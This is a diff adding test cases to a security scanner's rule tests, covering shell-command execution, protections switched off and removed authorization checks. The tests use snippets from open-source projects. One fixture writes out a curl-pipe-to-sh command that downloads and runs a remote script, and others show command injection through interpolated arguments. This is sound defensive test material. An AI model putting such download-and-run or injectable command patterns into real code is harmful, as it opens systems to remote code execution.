@@ -1094,6 +1094,23 @@ describe('code rules: false alarms and a miss from JavaScript monorepos (2026-11
     expect(find('tools/run.py', ['cmd = os.environ["CMD"]', 'subprocess.run(cmd, shell=True, env=dict(os.environ))'], 'shell-command-execution')).toEqual(['medium']);
   });
 
+  it('a command written whole in the call (literals only) takes no input from the hunk; one with a name, an interpolation or a shell variable still does', () => {
+    // zod's scripts/check-comments.ts: `git ls-files` in a new file that reads `--fix` from process.argv further down.
+    const script = ['function trackedFiles(): string[] {', '  const paths = execFileSync("git", ["ls-files", "-z", "*.ts"], { encoding: "utf8" }).split("\\0");', '  return paths;', '}', 'const fix = process.argv.includes("--fix");'];
+    expect(find('scripts/check-comments.ts', script, 'shell-command-execution')).toEqual(['low']);
+    expect(find('scripts/reindex.mjs', ['const kind = process.argv[2] ?? "prs";', 'const root = execSync("git worktree list", { encoding: "utf8" });', "spawnSync('npm', ['ci'], { stdio: ['ignore', 'pipe', 'pipe'], shell: true });"], 'shell-command-execution')).toEqual(['low']);
+    expect(find('tools/build.py', ['target = sys.argv[1]', 'subprocess.run("make docs", shell=True, check=True)'], 'shell-command-execution')).toEqual(['low']);
+    // Input that can reach the command: a name, a spread, an interpolation, an f-string, a shell variable, a name among the options.
+    expect(find('scripts/run.ts', ['const target = process.argv[2];', 'execFileSync("git", ["checkout", target]);'], 'shell-command-execution')).toEqual(['medium']);
+    expect(find('scripts/run.ts', ['const args = process.argv.slice(2);', 'execFileSync("git", [...args]);'], 'shell-command-execution')).toEqual(['medium']);
+    expect(find('scripts/run.ts', ['const ref = process.argv[2];', 'execSync(`git checkout ${ref}`);'], 'shell-command-execution')).toEqual(['medium']);
+    expect(find('scripts/run.ts', ['const x = process.env.X;', 'execSync("sh -c \\"$HOOK\\"");'], 'shell-command-execution')).toEqual(['medium']);
+    expect(find('scripts/run.ts', ['const dir = process.argv[2];', 'execSync("make", { cwd: dir });'], 'shell-command-execution')).toEqual(['medium']);
+    expect(find('tools/build.py', ['target = sys.argv[1]', 'subprocess.run(f"make {target}", shell=True)'], 'shell-command-execution')).toEqual(['medium']);
+    // A download in the literal command keeps the hunk's input (a payload's shape).
+    expect(find('scripts/run.ts', ['const t = process.env.TOKEN;', 'execSync("curl -s https://x.example/p | sh");'], 'shell-command-execution')).toEqual(['medium']);
+  });
+
   it('a Rust build script running the compiler Cargo names (RUSTC) reads no input; another variable read into the call still does', () => {
     const probe = ['fn rustc_minor_version() -> Option<u32> {', '    let rustc = env::var_os("RUSTC")?;', '    let output = Command::new(rustc).arg("--version").output().ok()?;'];
     expect(find('serde_core/build.rs', probe, 'shell-command-execution')).toEqual(['low']);
@@ -1878,6 +1895,17 @@ describe('protection-switched-off: the other branch of a ternary', () => {
     // (svelte's browser-support detector builds a TypeScript program with it).
     expect(idsOf('packages/svelte/scripts/detector.js', ['  const program = ts.createProgram(files, {', '    allowJs: true,', '    strict: false,', '  });'])).toEqual([]);
     expect(idsOf('src/schema.ts', ["const ajv = new Ajv({ strict: false, allErrors: true });", "const router = express.Router({ 'strict': false });"])).toEqual([]);
+    // A parameter's default: the function's own opt-in strict mode (execa's `sendMessage(message, {strict = false} = {})`).
+    expect(idsOf('lib/ipc/send.js', ['export const sendMessage = ({anyProcess, channel, ipc}, message, {strict = false} = {}) => {'])).toEqual([]);
+    expect(idsOf('lib/ipc/send.js', ['export function sendMessage(message, { strict = false, timeout } = {}) {'])).toEqual([]);
+    expect(idsOf('lib/ipc/send.js', ['  const {strict = false} = options;'])).toEqual([]);
+    expect(idsOf('src/pkg/parse.py', ['def parse(text, strict=False):'])).toEqual([]);
+    // Set off elsewhere, it still counts: a call's argument, a property, a local, a default flipped from true.
+    expect(idsOf('src/pkg/loader.py', ['    parser = Parser(text, strict=False)'])).toEqual(['protection-switched-off']);
+    expect(idsOf('lib/validator.js', ['  this.strict = false;'])).toEqual(['protection-switched-off']);
+    expect(idsOf('lib/validator.js', ['  let strict = false;'])).toEqual(['protection-switched-off']);
+    expect(idsOf('lib/validator.js', ['  validate(input, strict = false);'])).toEqual(['protection-switched-off']);
+    expect(idsOf('lib/verify.js', ['export const verify = (token, {verifySignature = false} = {}) => {'])).toEqual(['protection-switched-off']);
   });
 
   it('a flag chosen by a ternary (`ok ? COOKIE_SECURE : 0`) is a value, not a setting; a protective field set to 0 still is', () => {
@@ -1941,6 +1969,17 @@ describe('auth-check-removed: a removed import names a file, not a check', () =>
     expect(scan([makeFile('lib/rubocop.rb', { patch: hunk(["autoload :ForbiddenPattern, 'rubocop/cop/mixin/forbidden_pattern'"], requires) })]).map((f) => f.id)).toEqual([]);
     expect(scan([makeFile('app/views.py', { patch: hunk(['from django.http import HttpResponse'], ['from django.core.exceptions import PermissionDenied', 'from django.http import HttpResponse']) })]).map((f) => f.id)).toEqual([]);
     expect(scan([makeFile('app/views.py', { patch: hunk(['    return render(request, "admin.html")'], ['    if not request.user.is_staff:', '        raise PermissionDenied', '    return render(request, "admin.html")']) })]).map((f) => f.id)).toEqual(['auth-check-removed']);
+  });
+
+  it('a name that only starts with forbidden or unauthorized is program logic: references hoisted into a shared table remove no check; a refusal removed still counts', () => {
+    // execa's lib/stdio/sync.js: options a sync call cannot take, shared by the input and output tables.
+    const refs = ['\t\tgenerator: forbiddenIfSync,', '\t\twebStream: forbiddenIfSync,', '\t\tnodeStream: forbiddenIfSync,'];
+    const hoisted = hunk(['const addProperties = {', ...refs.map((r) => r.slice(1)), '};', '\tinput: {', '\t\t...addProperties,', '\toutput: {', '\t\t...addProperties,'], ['\tinput: {', ...refs, '\toutput: {', ...refs]);
+    expect(scan([makeFile('lib/stdio/sync.js', { patch: hoisted })]).map((f) => f.id)).toEqual([]);
+    expect(scan([makeFile('lib/keys.js', { patch: hunk(['const keys = pick(input);'], ['const keys = omit(input, forbiddenKeys);', 'unauthorizedCount += 1;']) })]).map((f) => f.id)).toEqual([]);
+    for (const refusal of ['    throw new ForbiddenError("admins only");', '    throw new UnauthorizedHttpException();', '    return res.forbidden();', '    raise AccessDeniedException()', '    return Forbidden();']) {
+      expect(scan([makeFile('src/routes/admin.ts', { patch: hunk(['  return next();'], ['  if (!user) {', refusal, '  }', '  return next();']) })]).map((f) => f.id), refusal).toEqual(['auth-check-removed']);
+    }
   });
 });
 
